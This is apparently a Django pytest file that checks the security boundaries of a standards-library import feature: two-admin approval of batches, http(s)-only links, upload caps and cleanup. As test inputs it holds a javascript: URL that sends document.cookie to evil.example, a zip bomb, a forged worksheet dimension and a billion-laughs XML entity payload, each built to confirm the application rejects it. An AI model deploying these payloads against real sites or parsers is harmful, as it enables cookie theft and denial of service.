"""Security boundaries of the standard library's import (issue 11):

- four eyes for imports: a file uploaded by one central admin publishes
  nothing and reaches no point until another central admin approves the whole
  batch; the importer cannot approve it; only the operator's command
  publishes directly, and it records who ran it;
- web addresses of a standard (online, blank form, sample) are http(s) only,
  through the editor and through an import;
- uploads are capped (size, unpacked size, rows, cells) before a workbook is
  read, openpyxl parses through defusedxml, and uploads never submitted are
  removed.
"""
from __future__ import annotations

import getpass
import io
import json
import os
import re
import time
import zipfile
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from tests.conftest import ROOT
from tests.test_standards_admin import ADMIN, editor_data, messages_of, text

DEMO = json.loads((ROOT / "platform/standards/demo_data/standard_items.json").read_text("utf-8"))
JS = "javascript:fetch('//evil.example/'+document.cookie)"


def new_code() -> str:
    import secrets

    from standards.models import StandardItem

    while True:
        code = f"YM-IMR-GG-{secrets.randbelow(1000):03d}"
        if not StandardItem.objects.filter(code=code).exists():
            return code


def upload(client, name: str, data: bytes, note: str = "批量调整"):
    return client.post(f"{ADMIN}import/", {"file": SimpleUploadedFile(name, data), "note": note})


def json_file(records) -> bytes:
    return json.dumps(records, ensure_ascii=False).encode()


def submit(client, records, name="catalogue.json"):
    """Upload, check and submit a file as `client`; returns the batch."""
    from standards.models import ImportBatch

    checked = upload(client, name, json_file(records))
    assert checked.status_code == 200 and "校验通过" in text(checked), text(checked)[-3000:]
    done = client.post(f"{ADMIN}import/", {"confirm": "1"})
    assert done.status_code == 302, text(done)[-3000:]
    batch = ImportBatch.objects.get(pk=int(re.search(r"/imports/(\d+)/$", done.url).group(1)))
    return batch, done


# --- four eyes ------------------------------------------------------------------

def test_an_import_waits_for_another_central_admin_and_then_reaches_the_points(
        network, admins, make_item, celery_worker):
    from standards.models import (
        Adoption,
        BatchStatus,
        Propagation,
        PropagationTarget,
        StandardItem,
        StandardItemVersion,
        TargetStatus,
        VersionStatus,
    )

    a, b, alice, bob = admins
    mine = make_item(owner=network.county, adopt_at=[network.township],
                     accept_tiers=["county", "township", "village"])
    same = make_item(owner=network.county)
    changed = {**mine.content, "fee": "按页收取工本费 1 元"}
    fresh = {**DEMO[7], "code": new_code(), "name": "导入新建的事项"}
    batch, done = submit(a, [changed, fresh, same.content])

    # Submitted for review: who, when, which file, what it holds.
    assert batch.status == BatchStatus.REVIEW and batch.uploaded_by == alice and batch.file_name == "catalogue.json"
    assert batch.outcomes == {mine.code: "changed", fresh["code"]: "new"}
    page = a.get(done.url)
    assert any("已提交审核" in m for m in messages_of(page))
    held = {v.item.code: v for v in batch.versions.select_related("item")}
    assert set(held) == {mine.code, fresh["code"]}
    assert all(v.status == VersionStatus.REVIEW and v.submitted_by == alice for v in held.values())

    # Nothing is published and nothing propagates.
    item = StandardItem.objects.get(code=mine.code)
    assert item.current_id == mine.pk
    assert StandardItem.objects.get(code=fresh["code"]).current_id is None
    assert not Propagation.objects.filter(version__batch=batch).exists()
    assert Adoption.objects.get(point=network.township, item=item).version_id == mine.pk

    # The importer cannot approve: a clear message, nothing changes.
    refused = a.post(f"{ADMIN}imports/{batch.pk}/approve/", follow=True)
    assert "导入这批事项的人不能自己审核发布，请由另一位中心管理员审核。" in messages_of(refused)
    assert "审核通过，发布全部" not in text(refused)
    batch.refresh_from_db()
    assert batch.status == BatchStatus.REVIEW and StandardItem.objects.get(code=mine.code).current_id == mine.pk
    # Nor can anyone take a version out of the batch and publish it alone.
    for client in (a, b):
        alone = client.post(f"{ADMIN}versions/{held[mine.code].pk}/publish/", follow=True)
        assert any(f"属于待审核的导入批次 {batch.pk}" in m for m in messages_of(alone))
    assert StandardItemVersion.objects.get(pk=held[mine.code].pk).status == VersionStatus.REVIEW
    assert not Propagation.objects.filter(version__batch=batch).exists()

    # The reviewer sees every item's differences on one page.
    review = b.get(f"{ADMIN}imports/{batch.pk}/")
    html = text(review)
    assert review.status_code == 200 and "审核通过，发布全部 2 项" in html
    assert f"{mine.code} {mine.name}</a>：第 1 版 → 第 2 版" in html
    assert f"{fresh['code']} 导入新建的事项</a>：新增事项" in html
    entry = re.search(rf'aria-labelledby="entry-{held[mine.code].pk}">(.*?)</section>', html, re.S).group(1)
    fee = re.search(r'<tr data-field="fee">(.*?)</tr>', entry, re.S).group(1)
    assert re.search(r"<ins><span class=\"w-sr-only\">【新增：</span>[^<]*1 元", fee)
    assert len(re.findall("<tr data-field=", entry)) == 1  # only what changed

    approved = b.post(f"{ADMIN}imports/{batch.pk}/approve/", follow=True)
    assert any(f"导入批次 {batch.pk} 的 2 项已发布" in m for m in messages_of(approved))
    batch.refresh_from_db()
    assert batch.status == BatchStatus.PUBLISHED and batch.reviewed_by == bob
    for version in batch.versions.all():
        assert version.status == VersionStatus.PUBLISHED and version.published_by == bob
    item = StandardItem.objects.get(code=mine.code)
    assert item.current == held[mine.code] and item.current.content["fee"] == "按页收取工本费 1 元"
    assert StandardItem.objects.get(code=fresh["code"]).current == held[fresh["code"]]

    # And the new version reaches the adopting point, as any publication does.
    run = Propagation.objects.get(version=held[mine.code])
    assert run.total == 1
    target = PropagationTarget.objects.get(propagation=run, point=network.township)
    deadline = time.monotonic() + 120  # the worker may still be busy with other tests' indexing
    while target.status == TargetStatus.PENDING:
        assert time.monotonic() < deadline, "the approved version did not reach the township"
        time.sleep(0.5)
        target.refresh_from_db()
    assert target.status == TargetStatus.PUBLISHED, target.detail
    assert Adoption.objects.get(point=network.township, item=item).version_id == item.current_id


def test_a_returned_batch_needs_a_reason_and_leaves_the_library_as_it_was(network, admins, make_item):
    from standards.models import BatchStatus, StandardItem

    a, b, _, bob = admins
    mine = make_item(owner=network.county)
    fresh = {**DEMO[3], "code": new_code()}
    batch, _ = submit(a, [{**mine.content, "phone": "0731-80000000"}, fresh])

    empty = b.post(f"{ADMIN}imports/{batch.pk}/reject/", {"review_note": " "}, follow=True)
    assert "退回时请写明审核意见。" in messages_of(empty)
    batch.refresh_from_db()
    assert batch.status == BatchStatus.REVIEW and batch.versions.count() == 2

    returned = b.post(f"{ADMIN}imports/{batch.pk}/reject/", {"review_note": "咨询电话未经部门确认"}, follow=True)
    assert any("已退回" in m for m in messages_of(returned))
    html = text(returned)
    assert "审核意见：咨询电话未经部门确认" in html and mine.code in html and fresh["code"] in html
    batch.refresh_from_db()
    assert batch.status == BatchStatus.REJECTED and batch.reviewed_by == bob
    assert batch.versions.count() == 0
    item = StandardItem.objects.get(code=mine.code)
    assert item.current_id == mine.pk and item.versions.count() == 1
    assert not StandardItem.objects.filter(code=fresh["code"]).exists()
    # Decided once: it cannot be approved afterwards.
    late = a.post(f"{ADMIN}imports/{batch.pk}/approve/", follow=True)
    assert any(f"导入批次 {batch.pk} 已退回，不能再审核。" in m for m in messages_of(late))
    # The item is free again for a draft.
    assert a.post(f"{ADMIN}items/{mine.code}/draft/").status_code == 302


def test_the_command_publishes_directly_and_records_its_operator(tmp_path):
    from standards.models import BatchStatus, ImportBatch, StandardItem, VersionStatus

    record = {**DEMO[11], "code": new_code(), "name": "运维导入的事项"}
    path = tmp_path / "ops.json"
    path.write_text(json.dumps([record], ensure_ascii=False), "utf-8")
    out = StringIO()
    call_command("import_standards", str(path), "--operator", "张三", stdout=out, stderr=StringIO())
    account = getpass.getuser()
    assert f"操作人：张三（系统账号 {account}）" in out.getvalue()
    item = StandardItem.objects.get(code=record["code"])
    assert item.current.status == VersionStatus.PUBLISHED
    batch = item.current.batch
    assert batch.status == BatchStatus.PUBLISHED and batch.operator == f"张三（系统账号 {account}）"
    assert batch.uploaded_by is None and batch.file_name == "ops.json" and batch.outcomes == {record["code"]: "new"}
    assert f"导入批次 {batch.pk}，操作人" in out.getvalue()

    # Without --operator the system account is recorded.
    path.write_text(json.dumps([{**record, "fee": "不收费（运维改）"}], ensure_ascii=False), "utf-8")
    out = StringIO()
    call_command("import_standards", str(path), stdout=out, stderr=StringIO())
    assert f"操作人：{account}" in out.getvalue()
    assert ImportBatch.objects.get(versions__item__code=record["code"], versions__number=2).operator == account


# --- web addresses ----------------------------------------------------------------

def test_a_standard_takes_only_http_links_in_the_editor_and_in_an_import(network, admins, make_item, tmp_path):
    from standards import services
    from standards.models import ImportBatch, StandardItem

    a, _, _, _ = admins
    mine = make_item(owner=network.county)
    draft = services.start_draft(StandardItem.objects.get(code=mine.code))
    materials = [{**mine.content["materials"][0], "blank_form_url": JS, "sample_url": "data:text/html,<script>"}]
    bad = a.post(f"{ADMIN}versions/{draft.pk}/edit/", editor_data(mine.content, online_url=JS, materials=materials))
    assert bad.status_code == 400
    html = text(bad)
    assert "草稿未保存" in html
    assert re.search(r'data-field="online_url">.*?<p class="error-message"[^>]*>“javascript:fetch.*?”不是有效的网址：'
                     r"只能填写以 http:// 或 https:// 开头的完整网址。", html, re.S)
    assert html.count("不是有效的网址") == 3  # the online address and both links of the material
    draft.refresh_from_db()
    assert draft.content == mine.content

    good = a.post(f"{ADMIN}versions/{draft.pk}/edit/", editor_data(
        mine.content, online_url="https://zwfw.example.gov.cn/item/1",
        materials=[{**mine.content["materials"][0], "blank_form_url": "http://example.gov.cn/表格.docx"}]))
    assert good.status_code == 302
    draft.refresh_from_db()
    assert draft.content["online_url"] == "https://zwfw.example.gov.cn/item/1"

    # An import file: refused row by row, nothing saved, no batch.
    batches = ImportBatch.objects.count()
    record = {**DEMO[2], "code": new_code(), "online_url": " JavaScript:alert(1)"}
    record["materials"] = [{**DEMO[2]["materials"][0], "sample_url": JS}]
    page = upload(a, "links.json", json_file([record]))
    assert page.status_code == 400
    assert "发现 2 个问题，未导入任何事项" in text(page) and "网上办理地址" in text(page)
    assert "第 1 项示例样表“javascript:fetch" in text(page)
    assert not StandardItem.objects.filter(code=record["code"]).exists() and ImportBatch.objects.count() == batches

    # The operator's command refuses it too.
    path = tmp_path / "links.json"
    path.write_text(json.dumps([record], ensure_ascii=False), "utf-8")
    err = StringIO()
    with pytest.raises(CommandError):
        call_command("import_standards", str(path), "--operator", "张三", stdout=StringIO(), stderr=err)
    assert f"第 1 条（{record['code']}） 网上办理地址：“JavaScript:alert(1)”不是有效的网址" in err.getvalue()
    assert not StandardItem.objects.filter(code=record["code"]).exists()


# --- upload limits -------------------------------------------------------------

def workbook_bytes(tmp_path, *codes) -> bytes:
    """An exported workbook of these items (the exporter's own format)."""
    from standards import exporting
    from standards.models import StandardItem

    path = tmp_path / "items.xlsx"
    exporting.export(path, exporting.current_records(StandardItem.objects.filter(code__in=codes)))
    return path.read_bytes()


def rezip(data: bytes, change) -> bytes:
    """The same workbook with some of its parts rewritten: change(name, bytes) -> bytes."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, change(info.filename, source.read(info.filename)))
    return out.getvalue()


def problems_of(page) -> str:
    return re.search(r'<table class="listing std-problems">(.*?)</table>', text(page), re.S).group(1)


def test_uploads_are_capped_before_a_workbook_is_read(network, admins, make_item, tmp_path, monkeypatch):
    import openpyxl.xml
    from openpyxl.xml import functions

    from standards import import_readers
    from standards.models import ImportBatch

    a, _, _, _ = admins
    mine = make_item(owner=network.county)
    batches = ImportBatch.objects.count()

    # Size of the upload.
    big = upload(a, "big.json", b" " * (5 * 1024 * 1024 + 1))
    assert "文件不能超过 5 MB（这个文件 5.0 MB）" in text(big)

    # A zip bomb: 100 MB of XML in 0.2 MB, refused from the zip directory, before anything is unpacked.
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            for _ in range(100):
                part.write(b" " * (1 << 20))
    assert len(bomb.getvalue()) < 300_000
    page = upload(a, "bomb.xlsx", bomb.getvalue())
    assert page.status_code == 400
    assert "Excel 文件解压后有 100.0 MB，超过上限 64.0 MB，未读取" in problems_of(page)

    # A forged sheet size: a million rows declared, refused before a row is read.
    good = workbook_bytes(tmp_path, mine.code)
    forged = rezip(good, lambda name, data: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', data)
                   if name == "xl/worksheets/sheet1.xml" else data)
    page = upload(a, "forged.xlsx", forged)
    assert "「事项」表有 1048576 行，超过上限 50000 行" in problems_of(page)

    # Rows and cells are also counted while streaming, for sheets that declare no size
    # (limits lowered here so that the file stays small).
    undeclared = rezip(good, lambda name, data: re.sub(rb'<dimension ref="[^"]+"\s*/>', b"", data))
    monkeypatch.setattr(import_readers, "MAX_ROWS", 1)
    page = upload(a, "rows.xlsx", undeclared)
    assert "「申请材料」表超过上限 1 行" in problems_of(page)
    monkeypatch.setattr(import_readers, "MAX_ROWS", 50_000)
    monkeypatch.setattr(import_readers, "MAX_CELLS", 20)
    page = upload(a, "cells.xlsx", undeclared)
    assert "工作簿中填写的单元格超过 20 个，未导入" in problems_of(page)
    monkeypatch.undo()

    # XML entities (billion laughs) are refused: openpyxl parses through defusedxml.
    assert openpyxl.xml.DEFUSEDXML is True and functions.iterparse.__module__.startswith("defusedxml")
    laughs = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
              b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')
    entities = rezip(good, lambda name, data: laughs + re.sub(rb"^<\?xml[^>]*\?>", b"", data)
                     if name == "xl/worksheets/sheet1.xml" else data)
    page = upload(a, "laughs.xlsx", entities)
    assert page.status_code == 400 and "不是有效的 Excel 文件" in problems_of(page)

    assert ImportBatch.objects.count() == batches
    # The untouched workbook still goes through.
    fine = upload(a, "items.xlsx", good)
    assert fine.status_code == 200 and "校验通过" in text(fine)


def test_uploads_never_submitted_are_removed(network, admins, make_item):
    from standards.import_views import IMPORT_DIR, SESSION_KEY, UPLOAD_TTL

    a, b, _, _ = admins
    mine = make_item(owner=network.county)
    record = [{**mine.content, "fee": "另一种收费"}]
    IMPORT_DIR.mkdir(parents=True, exist_ok=True)
    stale, recent = IMPORT_DIR / "stale-upload.json", IMPORT_DIR / "recent-upload.json"
    for path in (stale, recent):
        path.write_text("[]")
    old = time.time() - UPLOAD_TTL.total_seconds() - 60
    os.utime(stale, (old, old))

    upload(a, "first.json", json_file(record))
    first = IMPORT_DIR / a.session[SESSION_KEY]["file"]
    assert first.exists()
    assert not stale.exists() and recent.exists()  # swept at the next upload after the time limit

    # A new upload replaces the one checked before; submitting removes it.
    upload(a, "second.json", json_file(record))
    second = IMPORT_DIR / a.session[SESSION_KEY]["file"]
    assert not first.exists() and second.exists()
    a.post(f"{ADMIN}import/", {"confirm": "1"})
    assert not second.exists() and SESSION_KEY not in a.session
    recent.unlink()
